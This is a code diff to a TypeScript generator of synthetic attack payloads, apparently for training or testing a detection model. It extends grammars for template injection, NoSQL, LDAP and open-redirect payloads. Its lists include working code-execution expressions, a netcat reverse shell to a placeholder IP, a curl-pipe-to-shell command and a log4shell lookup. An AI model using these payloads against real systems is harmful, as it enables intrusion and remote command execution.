@@ -12,6 +12,24 @@ const q = (r: () => number) => pick(r, ["'", '"', "", "')", "'))", "\")"]);
 const space = (r: () => number) => pick(r, [" ", "/**/", "+", "%09", "\n"]);
 const tail = (r: () => number) => pick(r, ["--", "-- -", "#", "/*", ";--", ""]);
 
+const TEMPLATE_DELIMITERS: [string, string][] = [["{{", "}}"], ["${", "}"], ["<%=", "%>"], ["#{", "}"], ["*{", "}"], ["{%", "%}"], ["${{", "}}"], ["[[${", "}]]"], ["@(", ")"], ["{{=", "}}"], ["<#assign x=", "/>"]];
+const TEMPLATE_EXPRESSIONS = [
+  "7*7", "7*'7'", "1337*1337", "99-7", "config", "config.items()", "self", "self.__dict__", "request", "request.environ",
+  "''.__class__.__mro__[1].__subclasses__()", "lipsum.__globals__.os.popen('id').read()", "cycler.__init__.__globals__.os.popen('id')",
+  "T(java.lang.Runtime).getRuntime().exec('id')", "_self.env.registerUndefinedFilterCallback('exec')", "'a'|upper", "range(1,10)|join",
+  "dump(app)", "app.request.server.all|join(',')", "request.application.__globals__.__builtins__", "self.__init__.__globals__",
+  "\"freemarker.template.utility.Execute\"?new()(\"id\")", "constructor.constructor('return process')()", "7*7}}{{7*7",
+];
+const NOSQL_OPERATORS = ["$ne", "$gt", "$gte", "$lt", "$regex", "$where", "$exists", "$nin", "$in", "$or", "$expr"];
+const LDAP_ATTRIBUTES = ["uid", "cn", "sn", "objectClass", "mail", "userPassword", "password", "givenName", "memberOf", "description", "telephoneNumber", "sAMAccountName", "homeDirectory", "ou", "dc"];
+
+/** A host name that is not always the same word, so that a model learns the syntax around it, not the name. */
+function host(r: () => number): string {
+  const letters = "abcdefghijklmnopqrstuvwxyz";
+  const word = Array.from({ length: 3 + Math.floor(r() * 8) }, () => letters[Math.floor(r() * 26)]).join("");
+  return r() < 0.2 ? `${1 + Math.floor(r() * 223)}.${Math.floor(r() * 256)}.${Math.floor(r() * 256)}.${1 + Math.floor(r() * 254)}` : `${word}.${pick(r, ["com", "net", "io", "ru", "xyz", "example"])}`;
+}
+
 const GRAMMAR: Record<AttackClass, Gen[]> = {
   sqli: [
     (r) => `${q(r)}${space(r)}${pick(r, ["or", "OR", "oR", "||"])}${space(r)}${pick(r, ["1=1", "'a'='a", "true", "2>1", "'x' like 'x"])}${tail(r)}`,
@@ -29,18 +47,44 @@ const GRAMMAR: Record<AttackClass, Gen[]> = {
     (r) => `${pick(r, ["/etc/passwd", "c:\\windows\\system32\\drivers\\etc\\hosts", "php://filter/convert.base64-encode/resource=index.php", "file:///etc/passwd", "/proc/self/cmdline", "expect://id"])}`,
   ],
   cmdi: [
+    (r) => `${pick(r, ["", "1", "x", "127.0.0.1", "a.txt", "test"])}${pick(r, [";", "|", "&&", "||", "%0a", "\n", "&"])}${pick(r, [" ", ""])}${pick(r, ["id", "whoami", "uname", "ls", "pwd", "ifconfig", "env", "hostname"])}`,
+    (r) => `${pick(r, ["", "x", "1"])}${pick(r, ["$(", "`", "${IFS}$("])}${pick(r, ["id", "whoami", "sleep 5", "cat /etc/passwd", "curl x.example"])}${pick(r, [")", "`", ")"])}`,
     (r) => `${pick(r, ["", "x", "127.0.0.1", "a.txt"])}${pick(r, [";", "|", "||", "&&", "&", "\n", "`", "$("])}${pick(r, ["id", "cat /etc/passwd", "uname -a", "whoami", "ping -c 3 127.0.0.1", "nc -e /bin/sh 198.51.100.1 4444", "curl http://x.example/s|sh", "sleep 5"])}${pick(r, ["", "`", ")", ";", " #"])}`,
   ],
-  ssti: [(r) => `${pick(r, ["{{", "${", "<%=", "#{", "{%", "*{"])}${pick(r, ["7*7", "config.items()", "self.__init__.__globals__", "''.__class__.__mro__[1].__subclasses__()", "T(java.lang.Runtime).getRuntime().exec('id')", "request.application.__globals__"])}${pick(r, ["}}", "}", "%>", "%}"])}`],
+  ssti: [
+    (r) => {
+      const [open, close] = pick(r, TEMPLATE_DELIMITERS);
+      const pad = pick(r, ["", " "]);
+      return `${open}${pad}${pick(r, TEMPLATE_EXPRESSIONS)}${pad}${close}`;
+    },
+  ],
   xxe: [(r) => `<?xml version="1.0"?><!DOCTYPE ${pick(r, ["foo", "root", "r"])} [<!ENTITY ${pick(r, ["xxe", "x", "e"])} SYSTEM "${pick(r, ["file:///etc/passwd", "http://x.example/evil.dtd", "php://filter/resource=/etc/hosts"])}">]><root>&${pick(r, ["xxe", "x", "e"])};</root>`],
-  nosqli: [(r) => pick(r, ['{"$gt":""}', '{"$ne":null}', "[$ne]=1", '{"$where":"sleep(100)"}', "'; return true; var x='", '{"$regex":".*"}', "true, $where: '1 == 1'"])],
-  ldapi: [(r) => pick(r, ["*)(uid=*))(|(uid=*", "admin)(&)", "*)(|(objectclass=*)", "*))%00", ")(cn=*))(|(cn=*", "x*)(|(password=*)"])],
-  "open-redirect": [(r) => `${pick(r, ["//", "/\\", "\\/\\/", "https:", "//%09/", "/%2f%2f", "https://trusted.example@"])}${pick(r, ["evil.example", "198.51.100.9", "evil.example%2f..", "evil.example/%2e%2e"])}`],
+  nosqli: [
+    (r) => pick(r, ['{"$gt":""}', '{"$ne":null}', "[$ne]=1", '{"$where":"sleep(100)"}', "'; return true; var x='", '{"$regex":".*"}', "true, $where: '1 == 1'"]),
+    (r) => `{"${pick(r, ["username", "user", "email", "password", "id"])}":{"${pick(r, NOSQL_OPERATORS)}":${pick(r, ['""', "null", "1", "true", '".*"', '"^a"', "[]"])}}}`,
+    (r) => `{"${pick(r, NOSQL_OPERATORS)}":${pick(r, ['""', "null", "0", "true", '"^adm"', '["a"]'])}}`,
+    (r) => `${pick(r, ["'", '"', ""])}${pick(r, [" || ", "; ", " && "])}${pick(r, ["'1'=='1", "this.password.match(/.*/)", "sleep(5000)", "true", "db.users.find()"])}${pick(r, ["", "//", "; var x='"])}`,
+  ],
+  ldapi: [
+    (r) => pick(r, ["*)(uid=*))(|(uid=*", "admin)(&)", "*)(|(objectclass=*)", "*))%00", ")(cn=*))(|(cn=*", "x*)(|(password=*)"]),
+    (r) => `${pick(r, ["*", "admin", "admin*", "x", ""])}${pick(r, [")(", "))(|(", ")(|(", ")(&(", ")(!("])}${pick(r, LDAP_ATTRIBUTES)}=${pick(r, ["*", "*a*", "admin", "*)"])}${pick(r, [")", "))", "", ")(|(uid=*", "%00"])}`,
+    (r) => `${pick(r, ["(|", "(&", "(!"])}(${pick(r, LDAP_ATTRIBUTES)}=*)(${pick(r, LDAP_ATTRIBUTES)}=${pick(r, ["*", "admin*"])}))`,
+  ],
+  "open-redirect": [
+    (r) => `${pick(r, ["//", "/\\", "\\/\\/", "https:", "//%09/", "/%2f%2f", "https://trusted.example@"])}${pick(r, ["evil.example", "198.51.100.9", "evil.example%2f..", "evil.example/%2e%2e"])}`,
+    (r) => `${pick(r, ["//", "///", "////", "/\\", "\\\\", "%2f%2f", "/%5c", "https:/\\", "http:", "//%0d%0a", "/.//", "https://%09"])}${host(r)}${pick(r, ["", "/", "/%2e%2e", "%2f%2e%2e", "?", "#", "%23.trusted.example", "/login"])}`,
+    (r) => `${pick(r, ["https://", "//", "http://"])}${pick(r, ["trusted.example", "www.trusted.example", "trusted.example.com"])}${pick(r, ["@", "%40", ".", "%2e", "\\@"])}${host(r)}`,
+  ],
   log4shell: [(r) => `\${${pick(r, ["jndi", "${lower:j}ndi", "${::-j}${::-n}di"])}:${pick(r, ["ldap", "rmi", "dns"])}://${pick(r, ["x.example", "198.51.100.2:1389"])}/${pick(r, ["a", "Exploit"])}}`],
   ssrf: [(r) => pick(r, ["http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:6379/", "gopher://localhost:25/", "file:///etc/passwd", "http://[::]:22/", "http://0177.0.0.1/"])],
   crlf: [(r) => `${pick(r, ["", "x"])}${pick(r, ["%0d%0a", "\r\n"])}${pick(r, ["Set-Cookie: a=1", "Location: //evil.example", "X-Test: 1"])}`],
   scanner: [(r) => pick(r, ["/.env", "/.git/config", "/wp-login.php", "/backup.zip", "/admin.php.bak", "/.DS_Store", "/server-status", "/phpinfo.php"])],
 };
+
+/** One payload of a class from its templates. */
+export function grammarPayload(r: () => number, cls: AttackClass): string {
+  return pick(r, GRAMMAR[cls])(r);
+}
 
 /** `count` payloads spread over the classes (scanner probes are paths, not values: left out). */
 export function grammarPayloads(count: number, seed: number): { cls: AttackClass; payload: string }[] {
@@ -48,6 +92,6 @@ export function grammarPayloads(count: number, seed: number): { cls: AttackClass
   const classes = (Object.keys(GRAMMAR) as AttackClass[]).filter((c) => c !== "scanner");
   return Array.from({ length: count }, (_, i) => {
     const cls = classes[i % classes.length]!;
-    return { cls, payload: pick(r, GRAMMAR[cls])(r) };
+    return { cls, payload: grammarPayload(r, cls) };
   });
 }
